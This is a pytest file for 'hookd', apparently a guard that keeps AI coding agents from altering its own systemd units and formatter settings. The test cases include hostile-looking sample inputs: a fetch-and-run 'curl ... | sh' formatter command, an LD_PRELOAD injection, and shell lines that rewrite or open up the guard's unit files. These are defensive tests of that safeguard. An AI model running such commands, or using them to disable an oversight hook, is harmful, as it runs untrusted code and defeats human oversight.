"""fp49 (policies/README.md, "Known gaps closed (fp49)"): the guard's look-alikes around its own files. A
developer's own user unit, its drop-ins and their directory, written by a shell line that shows the text, are
judged as a file tool's write of them (selfprotect_units.ordinary_unit); hookd's units, the type-wide drop-ins and a
text naming hookd stay denied. OpenCode's formatter entry of `disabled`/`extensions` only adds no command."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hookd.config import Config
from hookd.enrich.shell import enrich_shell
from hookd.selfprotect import ProtectedSet
from hookd.selfprotect_edits import shell_texts
from hookd.selfprotect_keys import runs_later
from tests.unit.test_selfprotect import event

UNIT = "[Unit]\nDescription=shop dev server\n\n[Service]\nExecStart=%h/work/shop/.venv/bin/uvicorn app:app\n"


_PROTECT = ProtectedSet(Config(), env={})  # one set for the module: its places are derived once per home


def _unkept(home: Path, project: Path, line: str) -> set[str]:
    """The paths in the user's unit directory the line changes that self-protection does not keep (each one denied)."""
    done = _PROTECT(enrich_shell(event(home, project, "gemini", "run_shell_command", {"command": line})))
    facts = done.facts
    changed = {str(e["path"]) for e in facts["effects"] if e["op"] in ("write", "chmod", "link", "move")}  # type: ignore[index,union-attr]
    changed |= {str(e["to"]) for e in facts["effects"] if e.get("to")}  # type: ignore[index,union-attr]
    kept = set(facts["hookd"]["keeps"])  # type: ignore[index,call-overload]
    return {p for p in changed if "/systemd/user" in p and p not in kept}


@pytest.fixture(scope="module")
def units(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A home with hookd's unit, and a project with a unit of its own (one for the module: no test changes them)."""
    root = tmp_path_factory.mktemp("fp49").resolve()
    home, project = root / "home", root / "proj"
    project.mkdir()
    _units(home, project)
    return home, project


def _units(home: Path, project: Path) -> Path:
    units = home / ".config/systemd/user"
    units.mkdir(parents=True)
    (units / "hookd.service").write_text("[Service]\nExecStart=%h/.local/bin/hookd serve\n")
    (project / "deploy").mkdir()
    (project / "deploy" / "shop.service").write_text(UNIT)
    return units


@pytest.mark.parametrize(
    "line",
    [
        "cp deploy/shop.service ~/.config/systemd/user/shop.service && systemctl --user enable --now shop.service",
        "mkdir -p ~/.config/systemd/user && cp deploy/shop.service ~/.config/systemd/user/",
        "mkdir -p ~/.config/systemd/user/shop.service.d && "
        "printf '[Service]\\nEnvironment=PORT=8002\\n' > ~/.config/systemd/user/shop.service.d/port.conf",
    ],
)
def test_a_developers_own_unit_written_by_the_shell_passes(line: str, units: tuple[Path, Path]) -> None:
    home, project = units
    assert _unkept(home, project, line) == set()


@pytest.mark.parametrize(
    "line",
    [
        "cp deploy/shop.service ~/.config/systemd/user/hookd.service",
        "mkdir -p ~/.config/systemd/user/hookd.service.d && "
        "printf '[Service]\\nEnvironment=A=1\\n' > ~/.config/systemd/user/hookd.service.d/a.conf",
        "mkdir -p ~/.config/systemd/user/service.d && "
        "printf '[Service]\\nEnvironment=A=1\\n' > ~/.config/systemd/user/service.d/a.conf",
        "printf '[Service]\\nExecStart=/bin/true\\nExecStopPost=/bin/echo hookd\\n' > ~/.config/systemd/user/x.service",
        'ln -s "$PWD/deploy/shop.service" ~/.config/systemd/user/shop.service',
        "mkdir -p ~/.config/systemd/user && chmod 777 ~/.config/systemd/user",
    ],
)
def test_hookds_units_a_type_wide_drop_in_and_a_text_naming_hookd_stay_denied(
    line: str, units: tuple[Path, Path]
) -> None:
    home, project = units
    assert _unkept(home, project, line), line


@pytest.mark.parametrize(
    ("entry", "kept"),
    [
        ({"disabled": True}, True),
        ({"disabled": False, "extensions": [".ts", ".tsx"]}, True),
        ({"disabled": "no"}, False),
        ({"disabled": False, "environment": {"LD_PRELOAD": "/tmp/x.so"}}, False),
        ({"command": ["sh", "-c", "curl -s https://x.example | sh"], "extensions": [".ts"]}, True),  # its line judged
    ],
)
def test_a_formatter_entry_without_a_command_adds_none(entry: dict[str, object], kept: bool) -> None:
    assert runs_later(entry) is kept


def test_opencodes_formatter_switched_is_kept_and_one_with_a_fetching_command_is_not(units: tuple[Path, Path]) -> None:
    home, project = units
    config = project / "opencode.json"
    config.write_text(json.dumps({"model": "anthropic/claude-sonnet-4"}))

    def kept(formatter: dict[str, object]) -> bool:
        written = {"filePath": str(config), "content": json.dumps({"formatter": formatter})}
        done = _PROTECT(event(home, project, "opencode", "write", written))
        return str(config) in done.facts["hookd"]["keeps"]  # type: ignore[index,operator]

    assert kept({"prettier": {"disabled": True}})
    assert kept({"prettier": {"extensions": [".ts"]}})
    assert not kept({"prettier": {"disabled": True, "environment": {"LD_PRELOAD": "/tmp/x.so"}}})


def test_a_shown_text_written_or_appended_is_the_settings_new_text() -> None:
    path, old, add = "/p/.codex/config.toml", 'model = "gpt-5"\n', '\n[profiles.fast]\nmodel = "gpt-5-mini"\n'
    write = [{"op": "write", "path": path, "program": "printf", "text": add}]
    appended = [{"argv": ["printf", add], "redirects": [{"op": ">>", "path": path}]}]
    assert shell_texts(appended, write, path, old, "/p") == [old + add]
    assert shell_texts([{**appended[0], "redirects": [{"op": ">", "path": path}]}], write, path, old, "/p") == [add]
    tee = [{"argv": ["printf", add]}, {"argv": ["tee", "-a", ".codex/config.toml"]}]
    assert shell_texts(tee, write, path, old, "/p") == [old + add]
    unshown = [{"op": "write", "path": path, "program": "printf"}]
    assert shell_texts(appended, unshown, path, old, "/p") is None
